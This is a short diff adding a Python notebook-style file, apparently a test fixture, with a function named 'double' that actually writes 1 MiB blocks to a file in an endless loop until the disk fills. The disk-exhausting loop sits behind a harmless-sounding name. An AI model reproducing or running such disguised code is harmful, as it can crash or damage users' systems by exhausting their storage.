@@ -1,0 +1,8 @@
+# %%
+answer = 42
+
+
+def double(x):
+    with open("big", "wb") as file:
+        while True:
+            file.write(bytes(1 << 20))
